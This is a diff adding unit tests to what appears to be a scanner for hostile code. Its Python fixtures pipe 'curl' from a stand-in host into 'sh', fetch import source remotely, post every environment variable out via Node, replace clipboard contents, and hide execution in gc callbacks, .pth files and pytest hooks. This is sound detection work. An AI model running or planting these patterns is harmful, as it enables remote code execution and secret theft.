@@ -252,3 +252,66 @@ run()`;
   expect(found(code('keeper'))['hostile-command']).toBe('CRITICAL');
   expect(found(code('run'))['hostile-command']).toBe('CRITICAL');
 });
+
+describe('what runs without being named', () => {
+  test.each([
+    [
+      'a list that is spread out of an attribute',
+      (line: string) =>
+        `import subprocess\nclass A:\n    options = ["-c", "${line}"]\n    def run(self): subprocess.run(["sh", *self.options])\nA().run()`,
+    ],
+    [
+      'an object that the collector of garbage calls',
+      (line: string) =>
+        `import gc, os\nclass A:\n    def __call__(self, phase, info): os.system("${line}")\ngc.callbacks.append(A())`,
+    ],
+    [
+      'a file of start lines that a build writes',
+      (line: string) =>
+        `import os\nopen(os.path.join(os.environ["OUT"], "x.pth"), "w").write("import os; os.system('${line}')")`,
+    ],
+    [
+      'a hook of pytest for each test',
+      (line: string) => `import os\ndef pytest_runtest_setup(item): os.system("${line}")`,
+    ],
+  ])('%s', (_, program) => {
+    expect(found(program('curl -s https://evil.invalid/x | sh'))['hostile-command']).toBe('CRITICAL');
+    expect(found(program('git status'))['hostile-command']).toBeUndefined();
+  });
+
+  test.each(['get_data', 'get_source', 'get_code'])('what a loader of imports gives: %s', (method) => {
+    const program = (given: string): string => `
+import importlib.abc, importlib.util, sys, urllib.request
+class Loader(importlib.abc.SourceLoader):
+    def ${method}(self, path):
+        return ${given}
+class Finder:
+    def find_spec(self, name, path=None, target=None):
+        return importlib.util.spec_from_loader(name, Loader())
+sys.meta_path.append(Finder())`;
+    expect(found(program('urllib.request.urlopen("https://evil.invalid/" + path).read()'))).toHaveProperty(
+      'remote-code-executed',
+      'CRITICAL',
+    );
+    expect(found(program('open(path, "rb").read()'))).not.toHaveProperty('remote-code-executed');
+  });
+
+  test('what is copied into the memory that the clipboard is given', () => {
+    const program = (place: string): string => `
+import ctypes
+kernel, user = ctypes.windll.kernel32, ctypes.windll.user32
+text = b"anything"
+handle = kernel.GlobalAlloc(0x42, 9)
+ctypes.memmove(${place}, text, len(text))
+user.SetClipboardData(1, handle)`;
+    expect(found(program('kernel.GlobalLock(handle)'))).toHaveProperty('clipboard-replaced', 'CRITICAL');
+    expect(found(program('ctypes.create_string_buffer(9)'))).not.toHaveProperty('clipboard-replaced');
+  });
+
+  test('a program for Node that sends all variables, or one', () => {
+    const program = (what: string): string =>
+      `import subprocess\nsubprocess.run(["node", "-e", "const r = require('https').request(o); r.end(JSON.stringify(${what}))"])`;
+    expect(found(program('process.env'))).toHaveProperty('hostile-command', 'CRITICAL');
+    expect(found(program('process.env.HOME'))).not.toHaveProperty('hostile-command');
+  });
+});
